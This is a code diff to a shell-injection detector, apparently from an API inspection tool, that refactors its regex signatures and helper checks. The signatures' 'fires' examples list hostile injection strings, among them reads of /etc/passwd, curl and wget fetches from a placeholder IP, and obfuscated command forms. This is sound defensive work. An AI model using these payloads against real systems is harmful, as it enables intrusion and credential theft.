@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+from functools import lru_cache
 
 from apitrail.inspect.attacks.families.shell_tokens import (
     COMMANDS,
@@ -16,9 +17,10 @@ from apitrail.inspect.attacks.families.shell_tokens import (
     in_own_folder,
     looks,
     looks_first,
+    may_hide_command,
 )
 from apitrail.inspect.attacks.families.wording import fenced, has_words, prose
-from apitrail.inspect.attacks.signature import Check, Signature
+from apitrail.inspect.attacks.signature import LINES_READ, NOWHERE, Check, Signature
 from apitrail.inspect.attacks.values import Value
 
 LINES = 4
@@ -29,29 +31,9 @@ _SEPARATOR = re.compile(r"[;|&\r\n`(]|%0[ad]|\\[nr]", re.IGNORECASE)
 _LEFT_NOTHING = re.compile(r"""[\s'")(\]}\\>]*(?:[\w.*:/@%-]{0,24}[\s'")\]}\\]*)?""")
 _ASSIGNS = re.compile(r"\s*(?:[=:](?![\\/])|,(?!-)|\(\s*[)\w])")
 _BUILDING = frozenset(
-    [
-        "npm",
-        "pip",
-        "pip3",
-        "gem",
-        "git",
-        "make",
-        "docker",
-        "kubectl",
-        "apt-get",
-        "java",
-        "node",
-        "python",
-        "python3",
-        "ruby",
-        "php",
-        "dotnet",
-        "go",
-        "systemctl",
-        "yum",
-        "apk",
-    ]
-)
+    ("npm", "pip", "pip3", "gem", "git", "make", "docker", "kubectl", "apt-get", "java", "node", "python", "python3",
+     "ruby", "php", "dotnet", "go", "systemctl", "yum", "apk")
+)  # fmt: skip
 """Programs of those who build and deploy, whose names an API is given for good reasons."""
 _INLINE = re.compile(r"\s*-(?:e|c|r|m|enc\w*|ec|EncodedCommand)\b|\s*/c\b", re.IGNORECASE)
 _PAIR = re.compile(r"[A-Za-z_]{3,}[|;,]\s?[A-Za-z_]{2,}")
@@ -60,9 +42,10 @@ _LETTERS = re.compile(r"[A-Za-z]{2,} ?")
 _FIELDS = re.compile(r"[;|,\n]+")
 
 
+@lru_cache(maxsize=64)
 def _stored(text: str) -> bool:
     """Whether a text is a whole script or document."""
-    return text.startswith("#!") or fenced(text) or text.count("\n", 0, 4000) > LINES
+    return text.startswith("#!") or text.count("\n", 0, LINES_READ) > LINES or fenced(text)
 
 
 def _listed(text: str, separator: str) -> bool:
@@ -82,11 +65,13 @@ def _quoted_in_words(text: str, start: int) -> bool:
     return has_words(outside, 1) or text.count("`", 0, start) % 2 == 1
 
 
-def _separated(value: Value, start: int, _end: int) -> float:
+def _separated(value: Value, start: int, _end: int) -> float:  # noqa: PLR0911 - one answer for each kind of separator
     """A separator of commands with a command after it."""
     text = value.text
     found = _SEPARATOR.match(text, start)
-    if not found or _stored(text):
+    if _stored(text):
+        return NOWHERE
+    if not found:
         return 0.0
     sign = found[0]
     if sign == "(":
@@ -136,14 +121,22 @@ def _after(sign: str, left: str, text: str, command: Command) -> float:  # noqa:
     return 0.8 if (looks(command) and (empty or " " not in left.strip())) or (empty and sign != "\n") else 0.0
 
 
+WORD_LIMIT = 60
+"""Characters of a hidden command before the trick that hides it."""
+_TO_WORD = re.compile(r".*[ \t\r\n;|&`(=<>]", re.DOTALL)
+
+
 def _hidden(value: Value, start: int, _end: int) -> float:
     """A command written with tricks that a shell takes away."""
     text = value.text
-    at = start
-    while at > 0 and start - at < 60 and text[at - 1] not in " \t\r\n;|&`(=<>":
-        at -= 1
+    found = _TO_WORD.match(text, max(0, start - WORD_LIMIT), start)
+    return _hidden_word(text, found.end() if found else max(0, start - WORD_LIMIT))
+
+
+@lru_cache(maxsize=64)
+def _hidden_word(text: str, at: int) -> float:
     before = text[max(0, at - 1) : at]
-    if _stored(text) or before in ("=", "<"):
+    if _stored(text) or before in ("=", "<") or not may_hide_command(text, at):
         return 0.0
     command = command_at(text, at)
     if not command.tricks or not (command.known or by_wildcard(command)):
@@ -173,7 +166,9 @@ def _by_pattern(value: Value, start: int, end: int) -> float:
 def _bare(value: Value, start: int, _end: int) -> float:
     """A value that is a command line from its beginning."""
     text = value.text
-    if text[:start].strip(" \t'\"") or _stored(text) or prose(text) or (value.is_name and len(text) > 200):
+    if _stored(text) or prose(text) or (value.is_name and len(text) > 200):
+        return NOWHERE
+    if text[:start].strip(" \t'\""):
         return 0.0
     quoted = text.lstrip()[:1] in "'\""
     command = command_at(text, start + (len(text[start:]) - len(text[start:].lstrip(" \t+'\""))))
@@ -215,20 +210,13 @@ def _bare_line(command: Command, text: str) -> float:  # noqa: PLR0911 - one ans
 _NUMBER_ONLY = re.compile(r"\s*\d+(?:\.\d+)?\s*[;|&#]?\s*$")
 
 
+_NET_WORDS = frozenset(("user", "view", "localgroup", "share", "use", "start", "stop", "accounts", "group"))
+
+
 def given_words(rest: str) -> bool:
     """Whether the words after `which` or `net` are such that these take."""
     first, _, more = rest.strip().partition(" ")
-    known = first.lower() in COMMANDS or first.lower() in (
-        "user",
-        "view",
-        "localgroup",
-        "share",
-        "use",
-        "start",
-        "stop",
-        "accounts",
-        "group",
-    )
+    known = first.lower() in COMMANDS or first.lower() in _NET_WORDS
     return known and (bool(more) or first.lower() in COMMANDS or first.lower() == "view")
 
 
@@ -259,7 +247,7 @@ def _variable(value: Value, start: int, end: int) -> float:
 
 def _not_prose(sure: float) -> Check:
     def check(value: Value, _start: int, _end: int) -> float:
-        return 0.0 if _stored(value.text) or prose(value.text) else sure
+        return NOWHERE if _stored(value.text) or prose(value.text) else sure
 
     return check
 
@@ -282,7 +270,7 @@ SIGNATURES: tuple[Signature, ...] = (
     Signature(
         "shell-separated", "rce", "shell",
         rf"[;|&\n\r`(][ \t+(!{{\"'@]*{_NAMES}\b",
-        check=_separated,
+        check=_separated, most_lines=LINES,
         fires=("8.8.8.8; cat /etc/passwd", "x|whoami", "report$(curl http://203.0.113.9/s)", "`id`",
         "a && ping -n 20 127.0.0.1", "1\nid", "x';ls -la;'"),
         silent=(
@@ -294,21 +282,23 @@ SIGNATURES: tuple[Signature, ...] = (
     ),
     Signature(
         "shell-separated-path", "rce", "shell",
-        r"[;|&\n\r`(][ \t+(!{\"'@]*(?:sudo )?(?:\.|[a-z]:)?[/\\][\w./\\-]+", check=_separated,
+        r"[;|&\n\r`(][ \t+(!{\"'@]*(?:sudo )?(?:\.|[a-z]:)?[/\\][\w./\\-]", check=_separated, most_lines=LINES,
         fires=("x;/usr/bin/id;", "1|c:\\windows\\system32\\ping.exe -n 3 x", "a;./x.sh;/tmp/y -c"),
         silent=("a|/b/c", "see http://a.example/x;/y", "(./readme.md)", "(/usr/share/doc)"),
     ),
     Signature(
-        "shell-escaped-line", "rce", "shell", rf"(?:%0[ad]|\\[nr])[ \t+]*{_NAMES}\b", check=_separated,
+        "shell-escaped-line", "rce", "shell", rf"(?:%0[ad]|\\[nr])[ \t+]*{_NAMES}\b", check=_separated, most_lines=LINES,
         fires=("x%0aid", "1\\nid|"), silent=("C:\\names", "a\\nb", "\\n date of birth"),
     ),
     Signature(
         "shell-program", "rce", "shell", r"[;|&\r`(][ \t+(!{\"']*/?(?:usr/(?:local/)?)?s?bin/[\w.+-]", check=_program,
+        most_lines=LINES,
         fires=("x|/usr/bin/id", "x|bin/ls", "a);/usr/sbin/arping"),
         silent=("the interpreter is /usr/bin/env, as ever", "path /bin/ls", "(/usr/bin/env)"),
     ),
     Signature(
         "shell-program-line", "rce", "command", r"^[ \t'\"]*/(?:usr/(?:local/)?)?s?bin/[\w.+-]", check=_program,
+        most_lines=LINES,
         fires=("/bin/ls -al", "1\n/usr/bin/id", "/usr/bin/wget x"),
         silent=("The interpreter is what it says\n/usr/bin/env, as ever it was", "path /bin/ls"),
     ),
@@ -316,7 +306,7 @@ SIGNATURES: tuple[Signature, ...] = (
         "shell-hidden-command", "rce", "obfuscated",
         r"(?:[\w/.](?:''|\"\"|``|\\[\w?*]|\^[a-z]|'[\w ./]+'|\"[\w ./]+\"|\$[@*\d!]|\$\{|\$\(\)|\$[a-z]+[a-z/\\'])"
         r"|(?:^|[;|&`\s({])(?:\\[a-z]|'[a-z]{1,6}'[a-z'\"]|\"[a-z]{1,6}\"[a-z'\"]))",
-        check=_hidden,
+        check=_hidden, most_lines=LINES,
         fires=(";c'a't /etc/passwd", "w\\ho\\am\\i", "|who$@ami", "{c''at,/etc/passwd}", "& p^ow^ersh^ell -c dir", ';c"a"t x'),
         silent=("don't 'quote' me", "C:\\new\\list\\cat", "it's a cat's life, isn't it", "I don't know what 'id' is"),
     ),
@@ -333,7 +323,7 @@ SIGNATURES: tuple[Signature, ...] = (
         "/** what?? */", "and/or?/maybe"),
     ),
     Signature(
-        "shell-line", "rce", "command", rf"^[ \t+'\"]*{_NAMES}\b", check=_bare,
+        "shell-line", "rce", "command", rf"^[ \t+'\"]*{_NAMES}\b", check=_bare, most_lines=LINES,
         fires=("cat /etc/passwd", "ping -n 30 127.0.0.1", "ls -la /", "which netcat", "perl -e 'print 1'",
         "wget http://203.0.113.9/x.sh", '" whoami'),
         silent=("find a doctor near me", "date", "sort by name", "python app.py", "npm run build", "Cat food", "test 123",
